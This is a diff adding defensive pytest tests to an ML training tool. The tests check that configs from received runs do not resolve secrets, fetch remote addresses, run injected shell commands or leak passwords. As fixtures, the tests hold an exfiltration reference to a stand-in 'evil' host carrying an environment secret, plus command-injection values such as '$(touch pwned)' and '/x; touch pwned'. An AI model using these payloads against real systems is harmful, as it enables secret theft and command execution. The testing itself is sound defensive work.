@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import os
 import pickle
+import shlex
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -25,10 +26,12 @@ from selftask.checkpoint import manifest, rotation, sharded, store
 from selftask.cli.main import main
 from selftask.config import trust
 from selftask.config.load import load_config, to_yaml
+from selftask.errors import masked
 from selftask.hooks.export import facts
 from selftask.models.build import build_backbone
 from selftask.models.weights.export import save_backbone
 from selftask.models.weights.foreign_pickle import read_tensors
+from selftask.report.page import escape
 
 PACKAGE = tiny.ROOT / "ssl" / "selftask"
 
@@ -151,6 +154,142 @@ def test_a_run_that_names_no_code_needs_no_trust(
     assert main([*words_of("eval", run), "trust=false"]) == 0
     assert main(words_of("features", run)) == 0
     assert main(words_of("export", run)) == 0
+
+
+@pytest.fixture
+def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """The addresses that are opened; ``manager`` is the one door to them."""
+    opened: list[str] = []
+
+    def manager(address: str) -> Any:
+        opened.append(address)
+        raise OSError("nobody answers")
+
+    monkeypatch.setattr("selftask.files.addresses.manager", manager)
+    monkeypatch.setenv("SECRET", "hunter2")
+    return opened
+
+
+READERS = ("eval", "features", "export", "finetune", "report", "test")
+
+
+def reading(command: str, run: Path) -> list[str]:
+    words = {"report": ["report", str(run)], "test": ["test", str(run)]}
+    return words.get(command) or words_of(command, run)
+
+
+@pytest.mark.parametrize(
+    ("command", "text"),
+    [
+        *((command, "https://evil/${oc.env:SECRET}") for command in READERS),
+        *(("eval", "${oc.${recipe}:SECRET}"), ("finetune", "\\${oc.env:SECRET}")),
+    ],
+)
+def test_references_of_a_received_run_are_not_resolved(
+    text: str,
+    command: str,
+    pwned: Path,
+    received: Callable[[dict[str, Any]], Path],
+    asked: list[str],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A secret of the environment left the machine in the address of the run's data."""
+    run = received({})
+    values = yaml.safe_load((run / "config.yaml").read_text())
+    values["recipe"] = "env"
+    values["data"]["path"] = text
+    values["data"]["val"] = {"name": "array", "path": text}
+    (run / "config.yaml").write_text(yaml.safe_dump(values))
+    code = main(reading(command, run))
+    assert code == 2 or command in ("report", "export")
+    assert asked == []
+    shown = capsys.readouterr()
+    written = [path for path in pwned.parent.rglob("*") if path.suffix in (".html", ".json")]
+    texts = [shown.out, shown.err, *(path.read_text() for path in written)]
+    assert not any("hunter2" in told for told in texts)
+    if command == "eval":
+        assert "config.yaml:" in shown.err and "data.path: a reference" in shown.err
+
+
+@pytest.mark.parametrize(
+    ("command", "key"),
+    [
+        *(("eval", "data.val"), ("eval", "resume"), ("export", "out"), ("export", "data")),
+        *(("finetune", "data"), ("report", "data"), ("test", "data"), ("test", "method")),
+    ],
+)
+def test_addresses_of_a_received_run_are_not_fetched(
+    key: str,
+    command: str,
+    pwned: Path,
+    received: Callable[[dict[str, Any]], Path],
+    asked: list[str],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    run = received({})
+    values = yaml.safe_load((run / "config.yaml").read_text())
+    address = "s3://evil/x"
+    changes = {
+        "data": {"data": {**values["data"], "path": address}},
+        "data.val": {"data": {**values["data"], "val": {"name": "array", "path": address}}},
+        "resume": {"resume": {"checkpoint": address}},
+        "out": {"out": address},
+        "init": {"init": {"backbone": address}},
+        "method": {"method": {"name": "distill", "teacher": address}},
+    }
+    (run / "config.yaml").write_text(yaml.safe_dump(values | changes[key]))
+    main(reading(command, run))
+    assert asked == []
+    error = capsys.readouterr().err
+    if key.startswith("data") and command in ("eval", "finetune"):
+        assert f"{key}.path: s3://evil/x would be fetched, which the run names" in error
+
+
+def test_what_the_user_names_is_fetched(
+    pwned: Path, received: Callable[[dict[str, Any]], Path], asked: list[str]
+) -> None:
+    run = received({})
+    assert main([*words_of("eval", run), "data=s3://mine/x.npz"]) == 2
+    assert set(asked) == {"s3://mine/x.npz"}
+
+
+def test_repro_and_replay_run_no_code_of_the_run(
+    pwned: Path,
+    received: Callable[[dict[str, Any]], Path],
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Neither of config.yaml and command, nor in the shell lines to be copied."""
+    run = received(IN_CONFIG["import"])
+    monkeypatch.syspath_prepend(str(run))  # such as a current folder that was received
+    words = ["selftask", "train", str(run / "config.yaml"), "import=[evil]", "backbone=os:mkdir"]
+    environment = {"command": words, "packages": {}, "folder": "/x; touch pwned"}
+    commit = {"commit": "abc; touch pwned", "folder": "/x", "diff": "$(touch pwned)"}
+    for git in ({}, commit, {**commit, "commit": "abcdef0"}, {**commit, "commit": "--help"}):
+        (run / "environment.json").write_text(json.dumps({**environment, "git": git}))
+        code = main(["repro", str(run)])
+        shown = capsys.readouterr()
+        assert code == (2 if git.get("commit", "abcdef0") != "abcdef0" else 1)
+        assert "trust=true" in shown.out or "git.commit" in shown.err
+        lines = shown.out.partition("to repeat it:\n")[2].splitlines()
+        assert [shlex.join(shlex.split(line)) for line in lines] == [x.strip() for x in lines]
+    assert not pwned.exists()
+    dump = run / "failures" / "step_1"
+    dump.mkdir(parents=True)
+    state = store.load(rotation.checkpoints(run / "checkpoints")[0])
+    store.save(state, dump, 1, keep=1)
+    torch.save(
+        {"ranks": 1, "step": 1, "problem": "nan", "loss": 0.0, "batch": {}}, dump / "rank_0.pt"
+    )
+    (dump / "config.yaml").write_bytes((run / "config.yaml").read_bytes())
+    assert main(["replay", str(dump)]) == 2
+    assert "names code of its own, which reading it would run: import: evil" in (
+        capsys.readouterr().err
+    )
+    assert not pwned.exists()
+    (run / "environment.json").write_text(json.dumps(environment))
+    main(["repro", str(run), "trust=true"])
+    assert pwned.exists()
 
 
 def test_what_the_user_typed_is_the_users(
@@ -394,3 +533,18 @@ def test_a_word_in_passing_is_not_typed(pwned: Path) -> None:
     for words in (["data=digits"], ["out=import=data"]):
         with pytest.raises(trust.UserError, match="import: data"):
             load_config("r.yaml", words, trust=False)
+
+
+def test_passwords_in_addresses_are_masked(
+    pwned: Path, capsys: pytest.CaptureFixture[str], asked: list[str]
+) -> None:
+    """In what ``config`` prints, in errors and in pages; masks change nothing else."""
+    words = ["simclr/digits", "data=s3://user:hunter2@host/x"]
+    main(["config", *words])
+    main(["train", *words, "out=run"])
+    shown = capsys.readouterr()
+    assert "s3://user:***@host/x" in shown.out + shown.err
+    assert "hunter2" not in shown.out + shown.err
+    for text in ("http://127.0.0.1:80/a@b", "a:b@c", "s3://bucket/run@best", "me@host:path"):
+        assert masked(text) == text
+    assert escape("see http://a:b@c/d") == "see http://a:***@c/d"
